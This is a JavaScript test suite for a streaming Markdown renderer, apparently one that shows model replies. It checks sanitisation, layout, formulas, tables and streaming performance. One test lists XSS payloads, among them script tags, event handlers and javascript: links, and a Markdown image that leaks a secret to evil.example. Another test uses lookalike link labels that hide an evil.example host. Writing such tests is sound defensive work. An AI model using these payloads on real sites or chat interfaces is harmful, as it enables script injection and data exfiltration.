import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { before, test } from "node:test";
import { hostile } from "./hostile.js";
import { page } from "./page.js";

const SAMPLE = readFileSync(new URL("./sample.txt", import.meta.url), "utf8");

/** Every way this text can grow, a few characters at a time. */
function* growths(text, step) {
  for (let end = step; end < text.length; end += step) yield text.slice(0, end);
  yield text;
}

const { frame, until, settled } = page();
/** @type {typeof import("../src/markdown/streaming-markdown.js")} */
let streamed;
/** @type {typeof import("../src/lib/chunks.js")} */
let chunks;

before(async () => {
  streamed = await import("../src/markdown/streaming-markdown.js");
  chunks = await import("../src/lib/chunks.js");
});

function stream() {
  const host = document.createElement("div");
  document.body.append(host);
  return { host, view: new streamed.StreamingMarkdown(host) };
}

/** A whole text, when all of it is drawn. */
async function show(text) {
  const { host, view } = stream();
  view.set(text, true);
  await settled();
  return host;
}

/** The words, without what the page adds. */
function words(host) {
  const copy = host.cloneNode(true);
  for (const added of copy.querySelectorAll("button, .code-head, [hidden], .host")) added.remove();
  for (const line of copy.querySelectorAll("br")) line.replaceWith("\n");
  return copy.textContent;
}

test("hostile text makes no element that loads, runs or submits", async () => {
  const text = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![leak](https://evil.example/?q=secret)",
    "![ref][r]\n\n[r]: https://evil.example/x.png",
    "[x](javascript:alert(1)) [y](JaVaScRiPt&#58;alert(1)) [z](data:text/html,x) [v](vbscript:x)",
    "[relative](/accounts/logout/) [proto](//evil.example) <javascript:alert(1)>",
    "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
    "<svg><animate onbegin=alert(1)></svg><math><mi xlink:href='javascript:x'>",
    "<form action=/x><input name=y><button>z</button></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<iframe srcdoc='<script>x</script>'></iframe><object data=x></object><style>*{}</style>",
    '```"onmouseover="alert(1)\ncode\n```',
    '<p style="position:fixed">x</p>',
    "a <b>bold</b> <!-- comment --> <![CDATA[x]]>",
    '[x](https://ok.example "t\' onmouseover=alert(1) \\"")',
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
  ].join("\n\n");
  const host = await show(text);
  const bad = "script,img,svg,math,form,input,iframe,object,style,details,b,video,audio";
  for (const button of host.querySelectorAll(".code button")) button.remove();
  assert.equal(host.querySelectorAll(bad).length, 0);
  for (const element of host.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      assert.ok(!name.startsWith("on") && name !== "style" && name !== "src", `${name}=${value}`);
    }
  }
  assert.ok(host.querySelector("a"));
  for (const link of host.querySelectorAll("a")) {
    assert.match(link.getAttribute("href"), /^(https?:\/\/|mailto:)/i);
    assert.equal(link.getAttribute("rel"), "noopener noreferrer nofollow");
    assert.equal(link.getAttribute("target"), "_blank");
  }
  assert.match(host.textContent, /<script>alert\(1\)<\/script>/);
});

test("an image is a link with its description", async () => {
  const link = (await show("![A map](https://example.org/map.png)")).querySelector("a");
  assert.equal(link.textContent, "A map");
  assert.equal(link.getAttribute("href"), "https://example.org/map.png");
});

test("code has its language, a Copy button and exactly its text", async () => {
  const host = await show("```js\nif (a < b && c) {}\n\n  </code>\n```");
  assert.equal(host.querySelector(".code-language").textContent, "js");
  assert.equal(host.querySelector("pre > code").textContent, "if (a < b && c) {}\n\n  </code>\n");
  assert.ok(host.querySelector(".code button"));
});

for (const [name, text] of [
  ["lines like definitions", "Output:\n\n[OK]: loaded\n[FAIL]: timeout\n\nThat is all."],
  [
    "definitions that nothing uses",
    "a\n\n[x]: https://example.org/x\n[y]: https://example.org/y 'z'",
  ],
  ["tags on lines", "a\n<div>\nb\n</div>\n\n<details>\n\n<summary>c</summary>"],
  ["types in angle brackets", "Map<string, List<T>> and <T> and a<b and </x> and <?php ?>"],
  ["comments", "a <!-- b --> c\n\n<!-- d\ne -->\n\nf"],
  ["comments with a blank line", "<!-- d\n\ne -->\n\nf"],
  ["scripts and styles", "<script>\nx\n\ny\n</script>\n\n<style>\np {}\n</style>"],
  ["unknown entities", "&foo; &notanentity; AT&T a&b; &"],
  ["formulas without an end", "\\[ a and \\( b and $$ c and $d"],
  ["a formula with nothing in it", "\\[\\] and $$$$"],
  ["links to nowhere", "[a] [b][c] [d]( e ![f"],
  ["one-letter tildes", "2~3 and ~x~ and 5~"],
  ["shell", "echo $HOME and $PATH, {X}, $1 and $$"],
]) {
  test(`nothing a model wrote vanishes: ${name}`, async () => {
    const flat = (one) => one.replace(/\s+/g, "");
    assert.equal(flat(words(await show(text))), flat(text));
  });
}

test("a definition that is used makes links, and its line goes", async () => {
  const host = await show("See [the guide][g], [g] and [G][].\n\n[g]: https://example.org/g 'Tip'");
  const links = [...host.querySelectorAll("p:not([hidden]) a")];
  assert.deepEqual(
    links.map((a) => a.textContent),
    ["the guide", "g", "G"],
  );
  for (const link of links) assert.equal(link.href, "https://example.org/g");
  assert.equal(links[0].title, "Tip");
  assert.equal(words(host), "See the guide, g and G.");
});

test("a definition in code defines nothing outside", async () => {
  const host = await show("See [1].\n\n```\n[1]: https://example.org/g\n```");
  assert.equal(host.querySelector("a"), null);
});

test("cells after a bar in code stay, and so do cells beyond the last column", async () => {
  const table = "| a | b |\n|---|---|\n| `x|y` | 2 |\n| ``p`|q`` | \\| |\n| 1 | 2 | 3 | 4 |\n";
  const host = await show(table);
  const rows = [...host.querySelectorAll("tbody tr")].map((row) =>
    [...row.cells].map((cell) => cell.textContent),
  );
  assert.deepEqual(rows, [
    ["x|y", "2"],
    ["p`|q", "|"],
    ["1", "2 | 3 | 4"],
  ]);
});

test("fences within a block of Markdown belong to it", async () => {
  for (const [fence, language] of [
    ["```", "markdown"],
    ["~~~", "md"],
    ["````", "Markdown"],
  ]) {
    const inner = "# Tool\n\n```sh\nmake all\n```\n\nMore text.\n";
    const host = await show(`Save:\n\n${fence}${language}\n${inner}${fence}\n\nBye.`);
    assert.equal(host.querySelectorAll("pre").length, 1, language);
    assert.equal(host.querySelector("pre > code").textContent, inner);
    assert.equal(host.lastElementChild.textContent, "Bye.");
  }
  const host = await show("- Save:\n  ```md\n  ```sh\n  x\n  ```\n  y\n  ```\n- Bye");
  assert.equal(host.querySelector("pre > code").textContent, "```sh\nx\n```\ny\n");
  const other = await show("```js\n```sh\n```\n\nBye.");
  assert.equal(other.querySelector("pre > code").textContent, "```sh\n");
});

test("a fence without a language opens a block within Markdown where it reads as one", async () => {
  const inside = [
    "# T\n\n```\nmake all\n```\n\nMore.\n",
    "Run:\n```\nmake all\n```\nDone.\n",
    "# T\n\n````\nx\n````\n\n```\ny\n```\n",
    "Run:\n\n```\nx\n```\n\n```sh\ny\n```\nDone.\n",
  ];
  for (const inner of inside) {
    const host = await show(`Save:\n\n\`\`\`markdown\n${inner}\`\`\`\n\nBye.`);
    assert.equal(host.querySelector("pre > code").textContent, inner);
    assert.equal(host.querySelectorAll("pre").length, 1);
  }
  // The end of the block, and what comes after it.
  for (const [text, blocks] of [
    ["```md\nA\n```\nText\n\n```\nb\n```\n\nBye.", 2],
    ["```md\nA\n```\n\nText:\n\n```js\nb\n```\n\nBye.", 2],
    ["```md\nA\n\n```\nText\n\n```js\nb\n```\n\nBye.", 2],
    [`\`\`\`md\nA\n\n\`\`\`\n${"Text.\n\n".repeat(400)}Bye.`, 1],
  ]) {
    const host = await show(text);
    assert.equal(host.querySelectorAll("pre").length, blocks, text.slice(0, 60));
    assert.equal(host.querySelector("pre > code").textContent.trim(), "A");
    assert.equal(host.lastElementChild.textContent, "Bye.");
  }
});

test("a link without words shows where it leads, a comment keeps its lines", async () => {
  const host = await show("See [](https://example.org/a).\n\n<!-- a *b*\nc --> d\n");
  assert.equal(host.querySelector("a").textContent, "https://example.org/a");
  assert.equal(words(host), "See https://example.org/a.<!-- a *b*\nc --> d");
});

test("formulas are typeset where they are on lines, with blank ones among them too", async () => {
  const host = await show(
    "\\[\nu = v\n\n+ w\n\\]\n\nThen:\n$$\nx\n$$\n\n- a\n  \\[\n  y\n\n  z\n  \\]",
  );
  await until(() => host.querySelectorAll("math[display=block]").length === 3);
  const sources = [...host.querySelectorAll("annotation")].map((one) => one.textContent);
  assert.deepEqual(sources, ["u = v\n\n+ w", "x", "y\n\nz"]);
});

test("each block has the direction of its words, code is always left to right", async () => {
  const host = await show(
    "טקסט ראשון בעברית.\n\nAn English line (with brackets).\n\n`./go.sh -x` פקודה\n\n```js\nlet n = 5;\n```\n\n- עברית\n- English\n\n> ציטוט\n\n# כותרת\n\n| שם | name |\n|---|---|\n| א | b |",
  );
  const directions = (selector) => [...host.querySelectorAll(selector)].map((one) => one.dir);
  assert.deepEqual(directions(":scope > p"), ["rtl", "ltr", "rtl"]);
  assert.deepEqual(directions("code, .code").filter(Boolean), ["ltr", "ltr"]);
  assert.deepEqual(directions("ul, li"), ["rtl", "rtl", "ltr"]);
  assert.deepEqual(directions("blockquote, h2, table"), ["rtl", "rtl", "rtl"]);
  assert.deepEqual(directions("th, td"), ["rtl", "ltr", "rtl", "ltr"]);
});

test("characters that turn the direction are marked, in words, code, links and cells", async () => {
  const code = "```py\nx = '\u202e'\n```";
  const text = `a\u202eb \`c\u2066\` [d\u202a](https://e.f)\n\n${code}\n\n| g\u2069 |\n|---|\n| \u{e0041} |`;
  const host = await show(`${text}\n\n&#x202e;\n\n<\u202e>`);
  await until(() => host.querySelectorAll(".unseen").length === 8);
  assert.equal(/[\u202a-\u202e\u2066-\u2069\u{e0041}]/u.test(host.textContent), false);
  const { textOf } = await import("../src/lib/visible-text.js");
  assert.equal(textOf(host.querySelector("pre > code")), "x = '\u202e'\n");
});

test("the real host stands beside a label that looks like another address", async () => {
  const host = await show(
    "[bank.example](https://evil.example/a) [https://bank.example/x](https://evil.example)" +
      " https://bank.example@evil.example/ [a@bank.example](mailto:b@evil.example)" +
      " [bank。example](https://evil.example) [b\u200bank.example](https://evil.example)",
  );
  const hosts = [...host.querySelectorAll(".host")].map((one) => one.textContent);
  assert.deepEqual(hosts, Array(6).fill("(evil.example)"));
  const own = await show(
    "https://a.example/b.html [a.example](https://www.a.example/) [x](https://y.z)",
  );
  assert.equal(own.querySelector(".host"), null);
});

/** The structure without what comes later by itself: formulas and colours. */
function structure(host) {
  const copy = host.cloneNode(true);
  for (const place of copy.querySelectorAll(".math-source, .formula")) place.remove();
  for (const code of copy.querySelectorAll("pre > code")) {
    code.replaceChildren(code.textContent);
    delete code.dataset.coloured;
  }
  return copy.innerHTML;
}

test("a streamed text ends as the same DOM as a whole one, late references included", async () => {
  const whole = structure(await show(SAMPLE));
  for (const step of [29, 97]) {
    const { host, view } = stream();
    for (const text of growths(SAMPLE, step)) {
      view.set(text, false);
      await frame();
    }
    view.set(SAMPLE, true);
    await until(() => host.querySelector('a[title="One"]'));
    await settled();
    assert.ok(structure(host) === whole, `the two differ at step ${step}`);
  }
});

test("the end is drawn at once, whatever was waited for", async () => {
  const { host, view } = stream();
  view.set("One", false);
  await settled();
  view.set("One two `three`", false);
  view.set("One two `three` four.", true);
  assert.equal(host.textContent, "One two three four.");
});

test("the last words of a long text are drawn at once on a busy page", async () => {
  const long = `${"A paragraph with *some* words.\n\n".repeat(300)}The last`;
  const { host, view } = stream();
  view.set(long, false);
  await until(() => host.textContent.endsWith("The last"));
  // Another text has used up the time of this turn.
  const other = stream();
  other.view.set("One", true);
  const start = performance.now();
  while (performance.now() - start < 30);
  view.set(`${long} words are here.\n\n- and\n- so is the end`, true);
  assert.match(words(host), /The last words are here\.\s*and\s*so is the end$/);
  await settled();
  assert.equal(
    host.innerHTML,
    (await show(`${long} words are here.\n\n- and\n- so is the end`)).innerHTML,
  );
});

test("nodes stay while a text grows around them, and with them a selection", async () => {
  const { host, view } = stream();
  const text =
    "# One\n\nfirst *word* and\n\n- a\n- b\n\n```js\nlet a;\n```\n\nThe last `x` one [l](https://a.b)";
  view.set(text, false);
  await settled();
  const kept = [...host.querySelectorAll("h2, p, em, li, pre, code, a")];
  const texts = kept.map((one) => one.firstChild);
  let grown = text;
  for (const more of [" **here**", ".\n\n| a |\n|---|\n| b |\n\n$x$", " end"]) {
    grown += more;
    view.set(grown, more === " end");
    await settled();
  }
  assert.match(host.textContent, /one l here\./);
  for (const [i, node] of kept.entries()) {
    assert.ok(node.isConnected, node.nodeName);
    if (!node.closest("pre")) assert.equal(node.firstChild, texts[i], node.nodeName);
  }
});

test("a definition at the end changes only what uses it", async () => {
  const { host, view } = stream();
  view.set("A [link][a].\n\nOther *words*.", false);
  await settled();
  const em = host.querySelector("em");
  view.set("A [link][a].\n\nOther *words*.\n\n[a]: https://a.b", true);
  await settled();
  assert.equal(host.querySelector("em"), em);
  assert.equal(host.querySelector("a").href, "https://a.b/");
});

test("a text that goes on after its end goes on in its last block", async () => {
  const { host, view } = stream();
  view.set("First.\n\nIt was", true);
  await settled();
  view.set("First.\n\nIt was cut *off", false);
  await until(() => host.textContent.includes("off"));
  assert.equal(host.lastElementChild.textContent, "It was cut *off");
});

test("a text that is replaced leaves nothing of the one before", async () => {
  const { host, view } = stream();
  view.set("# One\n\nfirst\n\nsecond\n\nthird", false);
  await until(() => host.textContent.includes("third"));
  view.set("Two", false);
  await until(() => host.textContent.trim() === "Two");
});

test("an open code block grows in place, and closes", async () => {
  const { host, view } = stream();
  view.set("Look:\n\n```python\na = 1\n", false);
  await until(() => host.querySelector("pre > code"));
  const code = host.querySelector("pre > code");
  view.set("Look:\n\n```python\na = 1\nb = '<i>'\n", false);
  await until(() => code.textContent === "a = 1\nb = '<i>'\n");
  view.set("Look:\n\n```python\na = 1\nb = '<i>'\n```\n\nDone.", false);
  await until(() => host.lastElementChild.textContent === "Done.");
  view.set("Look:\n\n```python\na = 1\nb = '<i>'\n```\n\nDone.", true);
  await until(() => !host.querySelector("[data-open]"));
  assert.equal(host.querySelectorAll("pre").length, 1);
  assert.equal(host.querySelector("pre > code"), code);
  assert.equal(code.textContent, "a = 1\nb = '<i>'\n");
});

for (const rate of [30, 60, 100, 300]) {
  test(`all code has its colours in a reply that came at ${rate} tokens a second`, async () => {
    const block = (i) =>
      `Step ${i}, with some words:\n\n\`\`\`js\nconst a${i} = "${i}";\nreturn a${i};\n\`\`\`\n\n`;
    const text = Array.from({ length: 8 }, (_, i) => block(i)).join("");
    const tokens = text.match(/\s*\S{1,5}/g);
    const { host, view } = stream();
    // A token of the wire is some five characters; frames come every 40 ms.
    const perFrame = Math.max(1, Math.round((rate * 40) / 1000));
    for (let i = perFrame; i < tokens.length; i += perFrame) {
      view.set(tokens.slice(0, i).join(""), false);
      await frame();
    }
    view.set(tokens.join(""), true);
    const coloured = () => host.querySelectorAll("code[data-coloured] .hljs-keyword").length;
    await until(() => coloured() === 16);
    assert.equal(host.querySelectorAll("pre > code").length, 8);
  });
}

test("code gets its colours when its block closes, not only at the end", async () => {
  const { host, view } = stream();
  view.set("```js\nlet a;\n", false);
  await settled();
  view.set("```js\nlet a;\n```\n\nAnd so on, one word\n\nafter the other", false);
  await until(() => host.querySelector(".hljs-keyword"));
});

test("no hostile text makes more nodes than the page bears, and all of it is there", async () => {
  for (const [name, text] of hostile(6000)) {
    const host = await show(text);
    const count = host.querySelectorAll("*").length;
    assert.ok(count < 12_000, `${name}: ${count} nodes`);
    const letters = (one) => one.replace(/[^a-z]/g, "").length;
    if (!/entit|code|link|image|definition|tags with|fences|formulas$|hidden|^tags$/.test(name)) {
      assert.ok(letters(words(host)) >= letters(text), `${name}: text is missing`);
    }
  }
});

test("beyond the nodes and blocks that a page bears a text is shown as it was written", async () => {
  const kinds = { headings: ["# a\n", "h2"], items: ["- a\n", "li"], emphasis: ["*a*\n\n", "em"] };
  for (const [name, [part, drawn]] of Object.entries(kinds)) {
    const host = await show(part.repeat(30_000));
    const count = host.querySelectorAll("*").length;
    assert.ok(count > 1000 && count < 13_000, `${name}: ${count} nodes`);
    const blocks = host.querySelectorAll(":scope > :not(.plain)").length;
    assert.ok(blocks <= 1000, `${name}: ${blocks} blocks`);
    assert.ok(host.querySelectorAll(drawn).length >= 500, name);
    assert.ok(host.querySelector(".plain").textContent.startsWith(part.trim()), name);
    assert.equal(host.textContent.match(/a/g).length, 30_000, name);
  }
});

test("no plain text is laid out as one: its chunks have few lines and characters", async () => {
  for (const part of ["$$\n", "a", "\n", "a b ", "\u{1f44d}"]) {
    const text = `${part.repeat(20_000)}a`;
    const host = document.createElement("div");
    chunks.fill(host, text);
    assert.equal(host.textContent, text);
    const texts = [...host.childNodes].map((node) =>
      node.nodeType === 3 ? node.data : node.textContent,
    );
    for (const one of texts) {
      assert.ok(one.length <= 4096 && one.split("\n").length <= 501, JSON.stringify(part));
      assert.ok(one.isWellFormed());
    }
  }
});

test("all rows of a long table are rows, in tables of few cells that each have its head", async () => {
  const rows = Array.from({ length: 1000 }, (_, i) => `| ${i} | *b* | \`c\` |\n`);
  const text = `| x | y | z |\n|---|---|---|\n${rows.join("")}`;
  const host = await show(text);
  const cells = [...host.querySelectorAll("tbody td:first-child")];
  assert.deepEqual(
    cells.map((cell) => cell.textContent),
    rows.map((_, i) => String(i)),
  );
  for (const table of host.querySelectorAll("table")) {
    assert.equal(table.querySelector("thead").textContent, "xyz");
    assert.ok(table.querySelectorAll("td").length <= 8 * 410);
  }
  const { host: growing, view } = stream();
  for (let end = 700; end < text.length; end += 700) {
    view.set(text.slice(0, end), false);
    await settled();
  }
  view.set(text, true);
  await settled();
  assert.equal(growing.innerHTML, host.innerHTML);
  const small = await show(text.slice(0, text.indexOf("| 400 |")));
  assert.equal(small.querySelectorAll("table").length, 1);
  assert.equal(small.querySelectorAll("tbody tr").length, 400);
});

test("a text that nobody reads yet comes bit by bit, and no more once it is read", async () => {
  const text = "Some words here.\n".repeat(20_000);
  const host = document.createElement("div");
  let isDue = true;
  chunks.fillInTime(host, text, () => isDue);
  assert.ok(host.textContent.length <= 32_768);
  await until(() => host.textContent === text);
  host.replaceChildren();
  chunks.fillInTime(host, text, () => isDue);
  isDue = false;
  const { length } = host.textContent;
  await settled();
  assert.equal(host.textContent.length, length);
});

test("a formula of very many cells is its source", async () => {
  const matrix = (cells) => `$$\n\\begin{matrix}${"a&".repeat(cells)}a\\end{matrix}\n$$\n`;
  const host = await show(matrix(20) + matrix(900));
  await until(() => host.querySelector("math"));
  await settled();
  assert.equal(host.querySelectorAll("math").length, 1);
  assert.equal(host.querySelectorAll(".math-source").length, 1);
});

test("a long text enters the page in slices", async () => {
  const { host, view } = stream();
  view.set("Some *words* here.\n\n".repeat(6000), true);
  const first = host.childNodes.length;
  assert.ok(first > 0 && first < 1000, `${first} blocks at once`);
  assert.equal(host.querySelector("p").textContent, "Some words here.");
  await settled();
  assert.equal(host.textContent.match(/words/g).length, 6000);
  assert.ok(host.classList.contains("long"));
});

test("what Markdown makes of a text may fail, the text is shown all the same", async () => {
  const { asWritten } = await import("../src/markdown/markdown.js");
  const [node] = asWritten({ kind: "text", raw: "<b>text</b>\n" }).nodes;
  assert.equal(node.textContent, "<b>text</b>");
});

test("tags without attributes mean what they mean, all others are text", async () => {
  const host = await show(
    "H<sub>2</sub>O <SUP>*x*</SUP> <kbd>Ctrl</kbd> <mark>m</mark><br>n <sub class=a>t</sub> <u>v</u> <sub>w",
  );
  const made = [...host.querySelectorAll("sub, sup, kbd, mark, sup em")];
  assert.deepEqual(
    made.map(({ localName, textContent }) => `${localName} ${textContent}`),
    ["sub 2", "sup x", "em x", "kbd Ctrl", "mark m"],
  );
  assert.match(words(host), /n <sub class=a>t<\/sub> <u>v<\/u> <sub>w$/);
});

test("an alert has its kind and its blocks; another word in brackets is a quotation", async () => {
  const host = await show("> [!TIP]\n> Some *words*\n> - a\n\n> [!OTHER]\n> b\n\n> [!NOTE] c");
  const [alert, ...others] = host.children;
  assert.ok(alert.matches(".alert.alert-tip[role=note]"));
  assert.equal(alert.querySelector(".alert-title").textContent, "Tip");
  assert.equal(alert.querySelectorAll("em, li").length, 2);
  assert.deepEqual(
    others.map(({ nodeName }) => nodeName),
    ["BLOCKQUOTE", "BLOCKQUOTE"],
  );
  assert.match(words(others[0]), /\[!OTHER\]/);
});

test("a footnote has a mark that leads to it, and leads back", async () => {
  const text =
    "One[^1], two[^b], none[^c].\n\n[^1]: First *note*\n[^b]: Second\n\n    goes on\n\nEnd.";
  const host = await show(text);
  assert.deepEqual(
    [...host.querySelectorAll("sup .note-mark")].map((mark) => mark.textContent),
    ["1", "b"],
  );
  assert.match(host.querySelector("p").textContent, /none\[\^c\]\./);
  const notes = [...host.querySelectorAll(".note")];
  assert.deepEqual(
    notes.map((note) => note.querySelectorAll("p").length),
    [1, 2],
  );
  assert.equal(host.lastElementChild.textContent, "End.");
  const seen = [];
  for (const note of notes) note.scrollIntoView = () => seen.push(note.dataset.note);
  host.className = "markdown";
  host.querySelectorAll(".note-mark")[1].click();
  assert.deepEqual(seen, ["b"]);
});

test("a named footnote has its mark while its reply grows; a range of characters has none", async () => {
  const { host, view } = stream();
  view.set("See it[^first-note], twice[^noch_einmal], [^a-z] and [^0-9a-f].\n\nMore.", false);
  await until(() => host.children.length === 2);
  assert.deepEqual(
    [...host.querySelectorAll("sup .note-mark")].map((mark) => mark.textContent),
    ["first-note", "noch_einmal"],
  );
  assert.match(words(host), /\[\^a-z\] and \[\^0-9a-f\]/);
});

test("a second definition of a label is not lost", async () => {
  const host = await show("[a]: https://x.y/1\n[a]: https://x.y/2\n\nNone uses them.");
  assert.match(words(host), /1[\s\S]*2[\s\S]*None/);
});

test("details are folded, and their end is not looked for in code", async () => {
  const text =
    "<details>\n<summary>More *x*</summary>\n\n- a\n\n```html\n</details>\n```\n\nb\n</details>\n\nAfter.";
  const host = await show(text);
  const details = host.querySelector("details");
  assert.equal(details.open, false);
  assert.equal(details.querySelector("summary em").textContent, "x");
  assert.equal(details.querySelector("pre > code").textContent, "</details>\n");
  assert.equal(host.lastElementChild.textContent, "After.");
  assert.equal(host.querySelectorAll("details").length, 1);
  for (const other of ["<details>\n\nno end", "<details open>\nx\n</details>"]) {
    assert.equal((await show(other)).querySelector("details"), null, other);
  }
});

test("a reader's opened details stay open and in place while they grow", async () => {
  const { host, view } = stream();
  const text = "<details><summary>s</summary>\n\nOne *two* three";
  view.set(text, false);
  await settled();
  const details = host.querySelector("details");
  details.open = true;
  const em = details.querySelector("em");
  view.set(`${text} four\n\n- five\n`, false);
  await settled();
  view.set(`${text} four\n\n- five\n</details>\n\nEnd.`, true);
  await settled();
  assert.equal(host.querySelector("details"), details);
  assert.equal(host.querySelector("em"), em);
  assert.ok(details.open);
  assert.equal(details.querySelector("li").textContent, "five");
});

test("headings begin at the level of the page, and all six can be told apart", async () => {
  const text = [1, 2, 3, 4, 5, 6].map((n) => `${"#".repeat(n)} h${n}`).join("\n\n");
  for (const [level, names, last] of [
    [2, "H2 H3 H4 H5 H6 H6", "7"],
    [3, "H3 H4 H5 H6 H6 H6", "8"],
  ]) {
    const host = document.createElement("div");
    document.body.append(host);
    new streamed.StreamingMarkdown(host, { level }).set(text, true);
    await settled();
    assert.equal([...host.children].map(({ nodeName }) => nodeName).join(" "), names);
    assert.equal(host.lastElementChild.getAttribute("aria-level"), last);
    assert.equal(new Set([...host.children].map(({ dataset }) => dataset.depth)).size, 6);
  }
});

test("a task says whether it is done, at every level", async () => {
  const host = await show("- [x] a\n  - [ ] b\n    - [X] c\n\n1. [ ] d\n\n   e");
  assert.deepEqual(
    [...host.querySelectorAll(".task-box")].map((box) => box.getAttribute("aria-label")),
    ["Done", "Not done", "Done", "Not done"],
  );
  assert.equal(host.querySelector("ol p").textContent, "☐ d");
});

test("environments and chemistry are formulas, and one without its end is its source", async () => {
  const host = await show(
    "\\begin{align*}\na &= b \\\\\nc &= d\n\\end{align*}\n\nThen $\\ce{2H2 + O2 -> 2H2O}$ and \\begin{pmatrix}1&2\\end{pmatrix}.\n\n\\begin{align} x",
  );
  await until(() => host.querySelectorAll("math").length === 3);
  assert.match(host.lastElementChild.textContent, /\\begin\{align\} x/);
});

test("environments that KaTeX lacks are shown by the nearest that it has", async () => {
  const lines = "a + b \\label{eq:x_1} \\\\\n\\shoveleft{+ c} \\\\\n+ d";
  const columns = "a &=& b \\\\\nc &=& d";
  const host = await show(
    [
      `\\begin{multline}\n${lines}\n\\end{multline}`,
      `\\[\\begin{multline*}\n${lines}\n\\end{multline*}\\]`,
      `\\begin{eqnarray}\n${columns}\n\\end{eqnarray}`,
      "\\begin{flalign*}\na &= b \\\\\nc &= d\n\\end{flalign*}",
    ].join("\n\n"),
  );
  await until(() => host.querySelectorAll("math").length === 4);
  assert.deepEqual(
    [...host.querySelectorAll("math")].map((math) => math.querySelectorAll("mtr").length),
    [3, 3, 2, 2],
  );
  assert.equal(host.querySelector("merror, .math-source"), null);
});

test("an image of another host is a link that names it", async () => {
  const host = await show("![A map](https://img.example/map.png) ![](https://img.example/b.png)");
  assert.equal(host.querySelector("img"), null);
  assert.deepEqual(
    [...host.querySelectorAll(".host")].map((one) => one.textContent),
    ["(img.example)", "(img.example)"],
  );
  const link = (await show("[here](https://Evil.example:8080/x)")).querySelector("a");
  assert.equal(link.dataset.host, "evil.example");
});

/** Counts the elements that are made while this is done. */
async function countMade(act) {
  const { createElement } = document;
  let count = 0;
  document.createElement = (...names) => {
    count += 1;
    return createElement.apply(document, names);
  };
  await act();
  document.createElement = createElement;
  return count;
}

const LONG = {
  "rows of a table": [
    "| n | name | value |\n|---|---|---|\n",
    (i) => `| ${i} | **row** ${i} | \`v${i}\` |\n`,
    400,
  ],
  "items of a list": ["Items:\n\n", (i) => `- item **${i}** with \`code\`\n`, 300],
  paragraphs: ["", (i) => `Paragraph *${i}* has some words.\n\n`, 300],
  "lines of code": ["```text\n", (i) => `let value_${i} = "some text";\n`, 1000],
};

for (const [name, [head, part, count]] of Object.entries(LONG)) {
  test(`closed ${name} are not made again while a reply grows`, async () => {
    const text = head + Array.from({ length: count }, (_, i) => part(i)).join("");
    const whole = await countMade(() => show(text));
    const { host, view } = stream();
    const first = [];
    const grown = await countMade(async () => {
      for (let end = 60; end < text.length; end += 60) {
        view.set(text.slice(0, end), false);
        await until(() => view.isDrawn);
        if (first.length < 3) first.push(host.querySelector("tbody tr, li, p, .code-piece"));
      }
      view.set(text, true);
      await settled();
    });
    // Each step makes what is open, once or twice; nothing grows with what is there already.
    const steps = text.length / 60;
    assert.ok(
      grown < 2 * whole + 16 * steps,
      `${grown} elements, ${whole} at once, ${steps} steps`,
    );
    assert.ok(first.at(-1).isConnected);
  });
}
